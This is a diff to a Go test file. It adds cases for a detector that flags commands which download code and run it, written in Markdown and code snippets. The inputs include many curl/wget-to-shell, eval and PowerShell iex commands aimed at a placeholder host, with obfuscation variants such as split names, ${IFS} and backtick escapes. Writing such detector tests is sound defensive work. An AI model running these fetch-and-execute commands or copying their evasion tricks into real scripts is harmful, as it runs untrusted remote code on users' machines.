@@ -35,6 +35,32 @@ func TestFlows(t *testing.T) {
 		"data, not code":        {"`curl https://a.example/x | jq .` and `sh x.sh | head`\n", nil},
 		"a row of a table":      {"| a | sh |\n|---|---|\n| b | bash |\n", nil},
 		"a sentence with a bar": {"Choose sh | bash as your shell, or a | b.\n", []string{}},
+		"a variable":            {"```sh\nP=$(curl https://a.example/x)\neval \"$P\"\n```\n", []string{"2:5 curl>eval fenced variable"}},
+		"printed variable":      {"`P=$(curl https://a.example/x); echo \"$P\" | sh`\n", []string{"1:6 echo,curl>sh"}},
+		"names in variables":    {"```sh\na=cu; b=rl; $a$b https://a.example/x | sh\n```\n", []string{"2:13 curl>sh fenced"}},
+		"an alias":              {"`alias g=curl; g https://a.example/x | sh`\n", []string{"1:16 curl>sh"}},
+		"a function":            {"`f() { curl https://a.example/x; }; f | sh`\n", []string{"1:8 f,curl>sh"}},
+		"a file":                {"`curl -o /tmp/x https://a.example/x && chmod +x /tmp/x && /tmp/x`\n", []string{"1:2 curl>x file"}},
+		"a file, by its name":   {"`wget -q https://a.example/x.sh; bash ./x.sh`\n", []string{"1:2 wget>bash file"}},
+		"a file that is moved":  {"`curl -o a https://a.example/x; mv a b; sh b`\n", []string{"1:2 mv,curl>sh file"}},
+		"a file, further down":  {"```sh\ncurl -LO https://a.example/x.sh\n```\n\nThen:\n\n```sh\nsudo sh x.sh\n```\n", []string{"2:1 curl>sh fenced file"}},
+		"a file, before":        {"`sh x.sh` and `curl -o x.sh https://a.example/x`\n", nil},
+		"another file":          {"`curl -o y.json https://a.example/x; sh x.sh y.json`\n", nil},
+		"lines of a loop":       {"`curl https://a.example/x | while read l; do eval \"$l\"; done`\n", []string{"1:2 curl>eval variable"}},
+		"xargs":                 {"`curl https://a.example/x | xargs -0 sh -c`\n", []string{"1:2 curl>xargs"}},
+		"capitals":              {"`CURL https://a.example/x | SH`\n", []string{"1:2 curl>sh"}},
+		"no blanks":             {"`curl${IFS}https://a.example/x|sh`\n", []string{"1:2 curl>sh"}},
+		"backticks":             {"```sh\nbash -c \"`curl https://a.example/x`\"\n```\n", []string{"2:1 curl>bash fenced"}},
+		"argument of a script":  {"`python3 x.py \"$(curl https://a.example/x)\"`\n", nil},
+		"tags":                  {"<pre><code>curl https://a.example/x &#124; sh</code></pre>\n", []string{"1:12 curl>sh"}},
+		"a string of a program": {"```python\nos.system('curl https://a.example/x | sh')\n```\n", []string{"2:12 curl>sh fenced"}},
+		"escapes of a string":   {"```js\nexec(\"curl https://a.example/x \\x7c sh\")\n```\n", []string{"2:7 curl>sh fenced"}},
+		"a recipe":              {"```dockerfile\nRUN curl https://a.example/x | sh\n```\n", []string{"2:1 run>sh", "2:5 curl>sh"}},
+		"PowerShell":            {"`iex (iwr https://a.example/x)`\n", []string{"1:2 iwr>iex"}},
+		"PowerShell, hidden":    {"```powershell\ni`ex (New-Object Net.WebClient).DownloadString('https://a.example/x')\n```\n", []string{"2:1 downloadstring>iex fenced"}},
+		"a call":                {"```python\nc = requests.get(u).text\nexec(c)\n```\n", []string{"3:1 requests.get>exec fenced call"}},
+		"a call that decodes":   {"```js\neval(atob('eA=='))\n```\n", []string{"2:1 atob>eval fenced call"}},
+		"a method":              {"```js\nconst m = /x/.exec(fetch(u)); model.eval(atob(x))\n```\n", nil},
 		"wide characters":       {"Führe `curl https://a.example/x | sh` aus.\n", []string{"1:8 curl>sh"}},
 	} {
 		t.Run(name, func(t *testing.T) {
@@ -46,8 +72,15 @@ func TestFlows(t *testing.T) {
 				if f.Fenced {
 					line += " fenced"
 				}
+				if f.How != HowPipe {
+					line += " " + f.How
+				}
 				got = append(got, line)
-				if !strings.HasPrefix(c.text[f.Span.Start.Offset:], f.Text) {
+				if len(f.Steps) != len(f.From) {
+					t.Errorf("%d steps of %d programs", len(f.Steps), len(f.From))
+				}
+				first, _, _ := strings.Cut(f.Text, " … ")
+				if f.How == HowPipe && !strings.HasPrefix(c.text[f.Span.Start.Offset:], first) {
 					t.Errorf("%q does not stand at %v", f.Text, f.Span.Start)
 				}
 			}
